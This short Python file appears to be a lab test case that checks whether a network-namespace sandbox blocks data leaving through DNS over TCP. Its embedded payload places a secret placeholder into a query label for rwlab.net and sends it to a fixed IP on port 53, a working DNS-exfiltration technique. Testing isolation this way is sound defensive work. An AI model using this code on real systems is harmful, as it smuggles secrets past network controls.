"""asks the resolver by TCP"""

from evidence import secret_left as succeeded

SHAPE = "DNS by its other road"
PROMISE = "P24"
LAB = True
WALLS = "network-namespace"
PYTHON = """
import socket, struct
def query(name, kind):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + b"\\0" + struct.pack(">HH", kind, 1)

asked = query("@SECRET@.rwlab.net", 1)
with socket.create_connection(("93.184.216.53", 53), 30) as line:
    line.sendall(struct.pack(">H", len(asked)) + asked)
    line.recv(999)
"""
